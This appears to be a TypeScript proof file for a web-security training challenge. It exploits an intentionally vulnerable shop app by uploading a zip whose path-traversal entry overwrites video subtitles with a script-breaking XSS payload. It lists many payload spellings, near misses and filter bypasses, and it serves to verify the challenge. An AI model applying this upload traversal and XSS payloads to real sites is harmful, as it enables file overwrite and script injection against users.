import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { zipArchive } from '@fruit/challenge-kit/zip-archive'
import { challenge } from './challenge.ts'

const VIDEOS = 'frontend/dist/frontend/assets/public/videos'
const CODE = 'alert(`xss`)'
const PAYLOAD = `</script><script>${CODE}</script>`
const HONEST = 'WEBVTT\n\n00:00.000 --> 00:02.000\nAn apple falls.\n'

/** Overwrites the subtitles with a text. @param entry file name in the archive */
function overwrite(attacker: Attacker, text: string, entry = `../../${VIDEOS}/owasp_promo.vtt`) {
  const form = new FormData()
  form.append('file', new Blob([zipArchive({ [entry]: text })], { type: 'application/zip' }), 'subtitles.zip')
  return attacker.post('/file-upload', form)
}
/** Overwrites the subtitles with a text and requests the promotion page. */
const show =
  (text: string, entry?: string): Attack =>
  async (attacker) => {
    await overwrite(attacker, text, entry)
    await attacker.get('/promotion')
  }

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.get('/promotion')
    // The response to a range request shows the folder of the file.
    await attacker.get('/video', { headers: { range: 'bytes=0-99' } })
    await show(PAYLOAD)(attacker)
  },
  spellings: {
    'behind the first word of subtitles': show(`WEBVTT\n\n${PAYLOAD}`),
    'behind a whole line of subtitles': show(`${HONEST}\n${PAYLOAD}`),
    'before honest subtitles': show(`${PAYLOAD}<script type="text/vtt">${HONEST}`),
    'in capitals': show(`</SCRIPT><SCRIPT>${CODE}</SCRIPT>`),
    'with blanks in the tags': show(`</script\n><script >${CODE}</script >`),
    'with a type': show(`</script><script type="text/javascript">${CODE}</script>`),
    'with semicolons and blanks': show(`</script><script> ${CODE}; </script>`),
    'without an end, which the page has': show(`</script><script>${CODE}`),
    'one end tag in the other': show(`</scr</script>ipt>${PAYLOAD}`),
    'with more steps up than there are folders': show(PAYLOAD, `../../../../../../${VIDEOS}/owasp_promo.vtt`),
    'after a folder of its own': show(PAYLOAD, `film/../../../${VIDEOS}/owasp_promo.vtt`),
    'signed in': async (attacker) => {
      await attacker.becomeCustomer()
      await show(PAYLOAD)(attacker)
    },
  },
  nearMisses: {
    'looking at the film': (attacker) => attacker.get('/promotion'),
    'honest subtitles of one’s own': show(HONEST),
    'without looking at the film': (attacker) => overwrite(attacker, PAYLOAD),
    'without an end of the element before it': show(`<script>${CODE}</script>`),
    'in an element that is not run': show(`</script><script type="text/vtt">${CODE}</script>`),
    'in a comment': show(`</script><!-- <script>${CODE}</script> -->`),
    'as text': show(`&lt;/script&gt;&lt;script&gt;${CODE}&lt;/script&gt;`),
    'another script': show('</script><script>alert(1)</script>'),
    'a script that is loaded': show('</script><script src="/x.js"></script>'),
    'a frame in place of a script': show('</script><iframe src="javascript:alert(`xss`)">'),
    'the file in another folder': show(PAYLOAD, '../../assets/public/videos/owasp_promo.vtt'),
    'a step up too few': show(PAYLOAD, `../${VIDEOS}/owasp_promo.vtt`),
    'a film of another name': show(PAYLOAD, `../../${VIDEOS}/promo.vtt`),
    'the payload, then honest subtitles again': async (attacker) => {
      await overwrite(attacker, PAYLOAD)
      await show(HONEST)(attacker)
    },
    'the subtitles alone, which are no page': async (attacker) => {
      await overwrite(attacker, PAYLOAD)
      await attacker.get('/assets/public/videos/owasp_promo.vtt')
    },
    'the payload in the address of the page': (attacker) => attacker.get(`/promotion?q=${encodeURIComponent(PAYLOAD)}`),
  },
  bypasses: {
    'take-the-end-out': show(`</SCRIPT><script>${CODE}</SCRIPT >`),
    'insist-on-the-format': show(`WEBVTT\n\n${PAYLOAD}`),
  },
})
